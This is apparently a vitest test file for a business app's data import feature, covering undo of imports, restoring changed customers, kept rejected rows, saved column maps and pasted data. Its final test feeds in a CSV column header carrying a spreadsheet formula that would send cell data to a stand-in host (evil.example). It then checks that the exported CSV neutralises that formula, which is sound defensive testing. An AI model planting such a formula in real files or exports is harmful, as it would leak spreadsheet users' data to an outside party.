/** A whole import taken back: lines, what it made, what it changed; refused where something stands on it; rejected rows kept. */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { code, one, openTestCompany, type TestEngine, testFolder } from '../fixtures/engine/engine.ts';
import {
  changeCustomer,
  draftedRun,
  importRequest,
  importRows,
  line,
  saveCustomer,
  saveProduct,
  writeCsv,
} from '../fixtures/engine/work.ts';

const folder = testFolder();
let engine: TestEngine;
let file = '';
let files = 0;
beforeEach(async () => {
  files += 1;
  file = folder.in(`undo-${files}.liasse`);
  engine = await openTestCompany(file);
  await saveCustomer(engine, { code: 'C1' });
});
afterEach(() => engine.close());
afterAll(() => folder.remove());

const csv = () => folder.in('some file.csv');
const zero = { removed: 0, kept: 0, restored: 0, changedSince: 0 };
const customers = async () => {
  const { rows } = await engine.client.call('customer.list', { sort: { by: 'code' } });
  return rows;
};

describe('an import of lines', () => {
  it('goes with the customers and products it made, unless they are used; the same file comes in again', {
    timeout: 60_000,
  }, async () => {
    const rows = [
      line('C1', 'a', '10'),
      line('NEW', 'b', '20', { productCode: 'P1' }),
      line('USED', 'c', '30'),
      line('', 'd', '40'),
    ];
    writeCsv(csv(), rows);
    const asked = await importRequest(engine, csv(), 'lines', { createCustomers: true, createProducts: true });
    const { importId } = await engine.job('import.commit', asked);
    // Another import uses one of the customers it made.
    await importRows(engine, folder.in('other.csv'), 'lines', [line('USED', 'z', '5')]);
    const preview = await engine.client.call('import.undoPreview', { importId });
    expect(preview).toMatchObject({
      fileName: 'some file.csv',
      lines: 4,
      linesInUse: 0,
      recorded: true,
      customers: { ...zero, removed: 1, kept: 1 },
      products: { ...zero, removed: 1 },
    });
    expect(one(file, 'SELECT count(*) FROM pending_line')).toBe(5);
    expect(await engine.job('import.undo', { importId })).toEqual(preview);
    expect(one(file, 'SELECT count(*) FROM pending_line')).toBe(1);
    expect((await customers()).map((row) => row.code)).toEqual(['C1', 'USED']);
    expect((await engine.client.call('product.list', {})).total).toBe(0);
    const batch = (await engine.client.call('import.list', {})).find(({ id }) => id === importId);
    expect(batch).toMatchObject({ undoneAt: expect.any(String), undoneBy: expect.any(String) });
    expect(one(file, "SELECT count(*) FROM audit_event WHERE action = 'import.taken_back'")).toBe(1);
    expect(await code(engine.job('import.undo', { importId }))).toBe('import_already_undone');
    expect(await engine.job('import.commit', asked)).toMatchObject({ create: 4, leave: 0, createdCustomers: 1 });
  });

  it('is refused, whole, while a line of it stands in a run, which is named', { timeout: 60_000 }, async () => {
    const { importId } = await importRows(engine, csv(), 'lines', [line('C1', 'a', '10'), line('C1', 'b', '20')]);
    const runId = await draftedRun(engine);
    const preview = await engine.client.call('import.undoPreview', { importId });
    expect(preview).toMatchObject({ lines: 0, linesInUse: 2, runs: [{ id: runId, name: 'March', lines: 2 }] });
    expect(await code(engine.job('import.undo', { importId }))).toBe('import_lines_in_use');
    expect(one(file, 'SELECT count(*) FROM pending_line')).toBe(2);
    await engine.client.call('run.abandon', { runId });
    expect(await engine.job('import.undo', { importId })).toMatchObject({ lines: 2, linesInUse: 0 });
    expect(one(file, 'SELECT count(*) FROM pending_line')).toBe(0);
  });
});

describe('an import of customers and products', () => {
  it('puts back what it changed, with custom values and tags, and leaves what was changed since', {
    timeout: 60_000,
  }, async () => {
    const field = await engine.client.call('field.save', { record: 'customer', name: 'Secteur', kind: 'text' });
    const k1 = await saveCustomer(engine, { code: 'K1', name: 'Old', city: 'York' });
    const k2 = await saveCustomer(engine, { code: 'K2', name: 'Second' });
    const before = (await customers()).find((row) => row.code === 'K1');
    writeCsv(csv(), [
      { code: 'K1', name: 'Renamed', Secteur: 'Bars', tags: 'VIP, Nord' },
      { code: 'K2', name: 'Changed', Secteur: '', tags: '' },
      { code: 'K3', name: 'Fresh', Secteur: 'Hôtels', tags: 'VIP' },
    ]);
    const { guessedMap: map } = await engine.client.call('import.inspect', { path: csv(), kind: 'customers' });
    const { importId } = await engine.job('import.commit', await importRequest(engine, csv(), 'customers', { map }));
    const after = await customers();
    expect(after.find((row) => row.code === 'K1')).toMatchObject({
      name: 'Renamed',
      custom: { [field.id]: 'Bars' },
      tags: [{ name: 'Nord' }, { name: 'VIP' }],
    });
    await changeCustomer(engine, k2.id, { city: 'Elsewhere' });
    expect(await engine.client.call('import.undoPreview', { importId })).toMatchObject({
      lines: 0,
      customers: { removed: 1, kept: 0, restored: 1, changedSince: 1 },
      products: zero,
    });
    await engine.job('import.undo', { importId });
    const now = await customers();
    expect(now.map((row) => row.code)).toEqual(['C1', 'K1', 'K2']);
    const restored = now.find((row) => row.code === 'K1');
    const { rowVersion: _v, updatedAt: _u, ...was } = before ?? {};
    expect(restored).toMatchObject(was);
    expect(restored?.rowVersion).toBeGreaterThan(k1.rowVersion + 1);
    expect(now.find((row) => row.code === 'K2')).toMatchObject({ name: 'Changed', city: 'Elsewhere' });
    expect(one(file, 'SELECT count(*) FROM custom_value')).toBe(0);

    await saveProduct(engine, { code: 'P1', unitPrice: '5' });
    const prices = await importRows(engine, csv(), 'products', [{ code: 'P1', unitPrice: '6.25' }]);
    await engine.job('import.undo', { importId: prices.importId });
    expect((await engine.client.call('product.list', {})).rows[0]).toMatchObject({ unitPrice: '5' });
  });
});

describe('rejected rows', () => {
  const rows = [line('C1', 'a', '10'), line('C1', 'b', 'ten'), line('WHO', 'c', '30')];
  it('stay with their import in the file’s own columns, also those without a field, and are written again as CSV or workbook', {
    timeout: 60_000,
  }, async () => {
    writeCsv(
      csv(),
      rows.map((row) => ({ ...row, Remarks: `about ${row['invoiceReference']}` })),
    );
    const plain = await importRequest(engine, csv(), 'lines');
    const asked = { ...plain, map: plain.map.filter(({ field }) => field !== 'Remarks') };
    const { importId } = await engine.job('import.commit', asked);
    expect((await engine.client.call('import.list', {}))[0]).toMatchObject({ rejected: 2, rejectsKept: 2 });
    // Only what is kept is asked from here on.
    const again = folder.in('again.csv');
    expect(await engine.job('import.rejects', { importId, path: again })).toEqual({ rows: 2 });
    const lines = readFileSync(again, 'utf8').trim().split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain('about b,3,');
    expect(lines[2]).toContain('about c,4,customerCode,');
    const book = folder.in('again.xlsx');
    await engine.job('import.rejects', { importId, path: book });
    const sheet = XLSX.read(readFileSync(book), { type: 'buffer' });
    const table = XLSX.utils.sheet_to_json<string[]>(sheet.Sheets[sheet.SheetNames[0] ?? ''] ?? {}, { header: 1 });
    expect(table.map((cells) => cells.at(-3))).toEqual(['Row of the file', 3, 4]);
    expect(await code(engine.job('import.rejects', { importId, path: folder.in('again.pdf') }))).toBe(
      'output_extension',
    );

    // Mended, the very same file comes in: the map of its shape is known, the added columns are not.
    await saveCustomer(engine, { code: 'WHO' });
    const mended = folder.in('mended.csv');
    writeFileSync(mended, readFileSync(again, 'utf8').replace(',ten,', ',12,'));
    const found = await engine.client.call('import.inspect', { path: mended, kind: 'lines' });
    expect(found.addedColumns).toHaveLength(3);
    expect(found.savedMap).toEqual(asked.map);
    const request = { path: mended, kind: 'lines', options: found.options, map: found.savedMap ?? [] } as const;
    expect(await engine.job('import.commit', request)).toMatchObject({ create: 2, reject: 0 });
  });

  it('of an import without any are not there to be asked for', async () => {
    const { importId } = await importRows(engine, csv(), 'lines', [line('C1', 'a', '1')]);
    expect(await code(engine.job('import.rejects', { importId, path: folder.in('none.csv') }))).toBe(
      'import_rejects_gone',
    );
    expect(existsSync(folder.in('none.csv'))).toBe(false);
  });
});

describe('kept maps', () => {
  it('have names, are listed, renamed, replaced, forgotten; no two the same name', async () => {
    const map = [{ column: 0, field: 'customerCode' }];
    const save = (shape: string, name: string) =>
      engine.client.call('columnMap.save', {
        kind: 'lines',
        shape,
        name,
        columns: ['Wer'],
        map,
        constants: [{ field: 'currency', value: 'EUR' }],
      });
    await save('one', 'Monthly');
    expect(await code(save('two', 'monthly'))).toBe('name_taken');
    await save('two', 'Another');
    expect((await engine.client.call('columnMap.list', { kind: 'lines' })).map(({ name }) => name)).toEqual([
      'Another',
      'Monthly',
    ]);
    await engine.client.call('columnMap.rename', { kind: 'lines', shape: 'one', name: 'Weekly' });
    const [, weekly] = await engine.client.call('columnMap.list', { kind: 'lines' });
    expect(weekly).toMatchObject({
      name: 'Weekly',
      shape: 'one',
      columns: ['Wer'],
      map,
      constants: [{ field: 'currency', value: 'EUR' }],
    });
    await engine.client.call('columnMap.forget', { kind: 'lines', shape: 'one' });
    expect(await engine.client.call('columnMap.list', { kind: 'lines' })).toHaveLength(1);
    expect(await code(engine.client.call('columnMap.rename', { kind: 'lines', shape: 'one', name: 'X' }))).toBe(
      'not_found',
    );
  });
});

describe('a paste', () => {
  it('is a source like a file, for this session only', async () => {
    const { path, fileName } = await engine.client.call('import.paste', {
      text: 'Code\tNom\nP-1\t"deux\nlignes"\n',
      language: 'fr',
    });
    expect(fileName).toBe('Presse-papiers');
    const found = await engine.client.call('import.inspect', { path, kind: 'customers' });
    expect(found).toMatchObject({ fileName, columns: ['Code', 'Nom'], rowEstimate: expect.any(Number) });
    const request = { path, kind: 'customers', options: found.options, map: found.guessedMap } as const;
    expect((await engine.client.call('import.preview', request)).rejections).toEqual([]);
    expect(await engine.job('import.commit', request)).toMatchObject({ create: 1, fileName });
    expect(await code(engine.client.call('import.paste', { text: ' \n', language: 'en' }))).toBe('paste_empty');
    const stranger = 'paste:00000000-0000-4000-8000-000000000000:fr';
    expect(await code(engine.client.call('import.inspect', { path: stranger, kind: 'customers' }))).toBe('paste_gone');
  });

  it('shows in its preview every cell that would not be taken', async () => {
    const { path } = await engine.client.call('import.paste', {
      text: 'Code client\tDate\tQté\nC1\t31/09/2026\tx\nC1\t30/09/2026\t2\n',
      language: 'en',
    });
    const found = await engine.client.call('import.inspect', { path, kind: 'lines' });
    const { rejections } = await engine.client.call('import.preview', {
      path,
      kind: 'lines',
      options: found.options,
      map: [
        { column: 0, field: 'customerCode' },
        { column: 1, field: 'date' },
        { column: 2, field: 'quantity' },
      ],
      constants: [{ field: 'currency', value: 'no money' }],
    });
    expect(rejections.map(({ row, column, error }) => [row, column, error.code]).sort()).toEqual([
      [2, 'Date', 'date_missing_day'],
      [2, 'Qté', 'number_unreadable'],
      [2, 'currency', 'currency_not_read'],
      [3, 'currency', 'currency_not_read'],
    ]);
  });
});

describe('rejected rows as CSV', () => {
  it('are no formula to a spreadsheet: neither the names of columns nor what is added', async () => {
    const [column, out] = ['=HYPERLINK("http://evil.example/?"&A2)', folder.in('harmless.csv')];
    const table = `customerCode,description,quantity,"${column.replaceAll('"', '""')}"\nC1,a,1,abc\n`;
    writeFileSync(csv(), table);
    const { options } = await engine.client.call('import.inspect', { path: csv(), kind: 'lines' });
    const fields = ['customerCode', 'description', 'quantity', 'unitPrice'] as const;
    const map = fields.map((field, at) => ({ column: at, field }));
    await engine.job('import.commit', { path: csv(), kind: 'lines', options, map, rejectsPath: out } as never);
    const written = readFileSync(out, 'utf8');
    expect(written).toContain("'=HYPERLINK");
    expect(written.match(/(^|[,;"])=HYPERLINK/m)).toBeNull();
    expect(written.match(/'=HYPERLINK/g)).toHaveLength(2);
  });
});
